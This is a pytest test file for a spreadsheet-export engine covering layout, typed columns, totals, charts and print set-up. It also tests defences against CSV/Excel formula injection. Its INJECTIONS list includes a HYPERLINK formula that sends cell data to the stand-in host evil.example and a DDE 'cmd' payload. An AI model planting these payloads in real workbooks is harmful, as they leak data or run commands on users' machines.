"""The workbook engine: title block, frozen header, typed columns, widths, totals, print set-up, injection."""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from app.documents.workbook import (
    FIRST_DATA_ROW,
    HEADER_ROW,
    ChartKind,
    ChartSpec,
    Column,
    ColumnType,
    Ratio,
    SheetSpec,
    display_width,
    fen_to_yuan,
    write_book,
    write_workbook,
)
from app.persistence.types import SHANGHAI, UTC

COLUMNS = (
    Column("举报人", ColumnType.TEXT),
    Column("件数", ColumnType.INTEGER, total=True),
    Column("奖励金额（元）", ColumnType.MONEY, total=True),
    Column("决定日期", ColumnType.DATE),
    Column("受理时间", ColumnType.DATETIME),
)
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def rows() -> list[list[Any]]:
    return [
        ["张*三", 1, 500_001, date(2025, 10, 28), datetime(2025, 10, 28, 2, 5, tzinfo=UTC)],
        ["欧**娜", 2, 10, date(2025, 11, 3), datetime(2025, 11, 3, 9, 30, tzinfo=SHANGHAI)],
        ["李*", None, None, None, None],
    ]


def spec(
    data: Iterable[Sequence[Any]] | None = None,
    *,
    columns: Sequence[Column] = COLUMNS,
    totals: str | None = "合计（{count} 人次）",
    generated_by: str = "李窗口",
) -> SheetSpec:
    return SheetSpec(
        sheet_name="奖励公示",
        centre_name="江城镇便民服务中心",
        title="2025年度火灾隐患举报奖励公示",
        period="2025-01-01 至 2025-12-31",
        generated_at=datetime(2026, 1, 5, 1, 30, tzinfo=UTC),  # 09:30 in Shanghai
        generated_by=generated_by,
        columns=columns,
        rows=rows() if data is None else data,
        totals_label=totals,
    )


def reopen(data: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def values(ws: Worksheet) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in ws.iter_rows(values_only=True)]


def test_title_block_then_header_row_frozen_below_it() -> None:
    ws = reopen(write_workbook(spec()))
    assert ws.title == "奖励公示"
    assert ws["A1"].value == "江城镇便民服务中心"
    assert ws["A2"].value == "2025年度火灾隐患举报奖励公示"
    assert ws["A2"].font.b
    assert (ws["A3"].value, ws["B3"].value) == ("统计期间", "2025-01-01 至 2025-12-31")
    assert ws["A4"].value == "生成时间"
    assert ws["B4"].value == datetime(2026, 1, 5, 9, 30)  # Asia/Shanghai wall time
    assert ws["B4"].number_format == "yyyy-mm-dd hh:mm"
    assert (ws["A5"].value, ws["B5"].value) == ("生成人", "李窗口")
    assert [c.value for c in ws[HEADER_ROW]] == [c.header for c in COLUMNS]
    assert ws.freeze_panes == f"A{FIRST_DATA_ROW}"


def test_typed_columns_are_numbers_and_dates_not_text() -> None:
    ws = reopen(write_workbook(spec()))
    name, count, money, day, moment = ws[FIRST_DATA_ROW]
    assert (name.value, name.data_type) == ("张*三", "s")
    assert (count.value, count.data_type, count.number_format) == (1, "n", "0")
    assert money.data_type == "n" and money.number_format == "#,##0.00"
    assert money.value == pytest.approx(5000.01) and isinstance(money.value, float)
    assert day.value == datetime(2025, 10, 28) and day.number_format == "yyyy-mm-dd"
    assert day.is_date
    assert moment.value == datetime(2025, 10, 28, 10, 5)  # 02:05 UTC → 10:05 Shanghai
    assert moment.number_format == "yyyy-mm-dd hh:mm"
    assert ws.cell(FIRST_DATA_ROW + 1, 3).value == pytest.approx(0.10)
    # An empty value stays an empty cell, not 0 or "".
    assert [c.value for c in ws[FIRST_DATA_ROW + 2]][1:] == [None, None, None, None]


def test_money_goes_through_decimal_never_float_rounding() -> None:
    assert fen_to_yuan(1) == Decimal("0.01")
    assert fen_to_yuan(123_456_789_012_345) == Decimal("1234567890123.45")
    assert str(fen_to_yuan(-110)) == "-1.10"
    # 0.1 + 0.2 in floats is 0.30000000000000004; the sum is made in fen.
    ws = reopen(write_workbook(spec([["甲", 1, 10, None, None], ["乙", 1, 20, None, None]])))
    assert ws.cell(FIRST_DATA_ROW + 2, 3).value == 0.3
    for bad in (1.5, "100", True):
        with pytest.raises(TypeError):
            fen_to_yuan(bad)  # type: ignore[arg-type]


def test_totals_row_sums_marked_columns_and_counts_rows() -> None:
    ws = reopen(write_workbook(spec()))
    totals = [c.value for c in ws[FIRST_DATA_ROW + 3]]
    assert totals == ["合计（3 人次）", 3, pytest.approx(5000.11), None, None]
    assert ws.cell(FIRST_DATA_ROW + 3, 3).number_format == "#,##0.00"
    assert ws.cell(FIRST_DATA_ROW + 3, 1).font.b
    assert ws.max_row == FIRST_DATA_ROW + 3


def test_no_totals_row_when_not_asked() -> None:
    ws = reopen(write_workbook(spec(totals=None)))
    assert ws.max_row == FIRST_DATA_ROW + 2


def test_only_numeric_columns_can_be_totalled() -> None:
    with pytest.raises(ValueError):
        Column("日期", ColumnType.DATE, total=True)


def test_widths_count_chinese_characters_as_two() -> None:
    assert display_width("abc") == 3
    assert display_width("合计") == 4
    assert display_width("ＡＢ") == 4  # full-width
    long_name = "江城区东风路十二号兴旺五金店"  # 14 wide characters = 28
    ws = reopen(write_workbook(spec([[long_name, 1, 1, None, None]])))
    assert ws.column_dimensions["A"].width >= display_width(long_name)
    assert ws.column_dimensions["A"].width < 2 * display_width(long_name)
    # 奖励金额（元）: 7 wide characters, wider than any amount in it.
    assert ws.column_dimensions["C"].width >= 14
    dated = reopen(write_workbook(spec()))
    assert dated.column_dimensions["D"].width >= len("2025-10-28")
    assert dated.column_dimensions["E"].width >= len("2025-10-28 10:05")


def test_print_set_up_a4_landscape_fit_to_width_header_repeated() -> None:
    ws = reopen(write_workbook(spec()))
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write_only"])
def test_rules_5_formula_injection_is_written_as_a_literal_string(write_only: bool) -> None:
    data = [[text, 1, 1, None, None] for text in INJECTIONS]
    ws = reopen(write_workbook(spec(data, generated_by="=1+1"), write_only=write_only))
    cells = [ws.cell(FIRST_DATA_ROW + i, 1) for i in range(len(INJECTIONS))]
    # XML keeps line ends as LF, so a leading CR comes back as LF: still text, not a formula.
    assert [c.value for c in cells] == [text.replace("\r", "\n") for text in INJECTIONS]
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)
    assert (ws["B5"].value, ws["B5"].data_type) == ("=1+1", "s")


def test_characters_xml_cannot_hold_are_dropped_not_fatal() -> None:
    ws = reopen(write_workbook(spec([["张\x00三\x07", 1, 1, None, None]])))
    assert ws.cell(FIRST_DATA_ROW, 1).value == "张三"


def test_wrong_types_and_row_lengths_are_refused() -> None:
    for bad in (
        [["甲", "1", 1, None, None]],
        [["甲", 1, 1.5, None, None]],
        [["甲", 1, 1, datetime(2025, 1, 1, tzinfo=SHANGHAI), None]],
        [["甲", 1, 1, None, datetime(2025, 1, 1)]],  # naive: which zone?
    ):
        with pytest.raises((TypeError, ValueError)):
            write_workbook(spec(bad))
    with pytest.raises(ValueError):
        write_workbook(spec([["甲", 1]]))


def test_write_only_mode_gives_the_same_sheet() -> None:
    many = [[f"用户{i}", i, i * 101, date(2025, 1, 1), None] for i in range(1500)]
    normal = reopen(write_workbook(spec(many)))
    streamed = reopen(write_workbook(spec(iter(many)), write_only=True))
    assert values(streamed) == values(normal)
    assert streamed.freeze_panes == normal.freeze_panes
    assert streamed.print_title_rows == normal.print_title_rows
    assert streamed.page_setup.orientation == "landscape"
    assert streamed.sheet_properties.pageSetUpPr.fitToPage
    for letter in "ABCDE":
        assert streamed.column_dimensions[letter].width == normal.column_dimensions[letter].width
    last = FIRST_DATA_ROW + len(many)
    for column in range(1, 6):
        assert (
            streamed.cell(FIRST_DATA_ROW, column).number_format
            == normal.cell(FIRST_DATA_ROW, column).number_format
        )
    assert streamed.cell(last, 1).value == "合计（1500 人次）"
    assert streamed.cell(last, 3).value == pytest.approx(sum(i * 101 for i in range(1500)) / 100)


# ----- several sheets, rates, charts, marking -------------------------------------------------

RATE_COLUMNS = (
    Column("单位", ColumnType.TEXT),
    Column("办结", ColumnType.INTEGER, total=True),
    Column("应办结", ColumnType.INTEGER, total=True),
    Column("办结率", ColumnType.PERCENT),
)


def rate_spec(name: str = "按单位", **extra: Any) -> SheetSpec:
    return SheetSpec(
        sheet_name=name,
        centre_name="江城镇便民服务中心",
        title="2026年3月办理情况统计",
        period="2026-03-01 至 2026-03-31",
        generated_at=datetime(2026, 4, 1, 1, 30, tzinfo=UTC),
        generated_by="王主任",
        columns=RATE_COLUMNS,
        rows=[["消防所", 2, 3, Ratio(2, 3)], ["城建办", 0, 0, Ratio(0, 0)]],
        totals_label="合计",
        totals_values={3: Ratio(2, 3)},
        **extra,
    )


def test_ratio_is_exact_to_four_places_and_empty_when_nothing_to_divide() -> None:
    assert Ratio(2, 3).value == Decimal("0.6667")
    assert Ratio(1, 8).value == Decimal("0.1250")
    assert Ratio(0, 0).value is None
    assert str(Ratio(2, 3)) == "66.7%"
    with pytest.raises(ValueError):
        Ratio(-1, 3)


def test_percent_cells_hold_fractions_with_a_percent_format_and_totals_take_given_values() -> None:
    ws = reopen(write_workbook(rate_spec()))
    first = ws.cell(FIRST_DATA_ROW, 4)
    assert first.value == pytest.approx(0.6667)
    assert first.number_format == "0.0%"
    assert ws.cell(FIRST_DATA_ROW + 1, 4).value is None  # 0/0: no rate, not 0 %
    totals = FIRST_DATA_ROW + 2
    assert [ws.cell(totals, c).value for c in range(1, 5)] == ["合计", 2, 3, pytest.approx(0.6667)]


def test_a_totals_value_may_not_replace_a_summed_column() -> None:
    bad = rate_spec()
    with pytest.raises(ValueError, match="已有合计"):
        write_workbook(
            SheetSpec(**{**bad.__dict__, "totals_values": {1: 5}})  # column 办结 is summed
        )


def test_several_sheets_keep_their_order_and_each_has_the_whole_layout() -> None:
    book = load_workbook(io.BytesIO(write_book([rate_spec("按单位"), spec()])))
    assert book.sheetnames == ["按单位", "奖励公示"]
    for ws in book.worksheets:
        assert ws.freeze_panes == f"A{FIRST_DATA_ROW}"
        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
        assert ws.page_setup.orientation == "landscape"
    with pytest.raises(ValueError, match="表名重复"):
        write_book([rate_spec("甲"), rate_spec("甲")])


@pytest.mark.parametrize("write_only", [False, True])
def test_charts_are_native_and_read_the_data_rows_only(write_only: bool) -> None:
    charts = (
        ChartSpec(ChartKind.BAR, "各单位办结率", categories=0, values=(3,), percent=True),
        ChartSpec(ChartKind.LINE, "办结件数", categories=0, values=(1, 2)),
    )
    data = write_book([rate_spec(charts=charts)], write_only=write_only)
    ws = load_workbook(io.BytesIO(data)).active
    assert isinstance(ws, Worksheet)
    found = ws._charts
    assert [type(c).__name__ for c in found] == ["BarChart", "LineChart"]
    bar, line = found
    last = FIRST_DATA_ROW + 1  # two data rows; the totals row is not charted
    assert bar.series[0].val.numRef.f == f"'按单位'!$D${FIRST_DATA_ROW}:$D${last}"
    assert bar.series[0].tx.strRef.f == f"'按单位'!D{HEADER_ROW}"
    assert bar.series[0].cat.numRef.f == f"'按单位'!$A${FIRST_DATA_ROW}:$A${last}" or (
        bar.series[0].cat.strRef.f == f"'按单位'!$A${FIRST_DATA_ROW}:$A${last}"
    )
    assert len(line.series) == 2


def test_a_chart_naming_a_missing_column_is_refused() -> None:
    bad = ChartSpec(ChartKind.BAR, "错", categories=0, values=(9,))
    with pytest.raises(ValueError, match="不存在的第 10 列"):
        write_book([rate_spec(charts=(bad,))])


def test_a_marking_goes_into_the_title_and_the_printed_page_header() -> None:
    ws = reopen(write_workbook(rate_spec(marking="内部资料 不得外传")))
    assert ws["A2"].value == "2026年3月办理情况统计（内部资料 不得外传）"
    assert ws.oddHeader.center.text == "内部资料 不得外传"
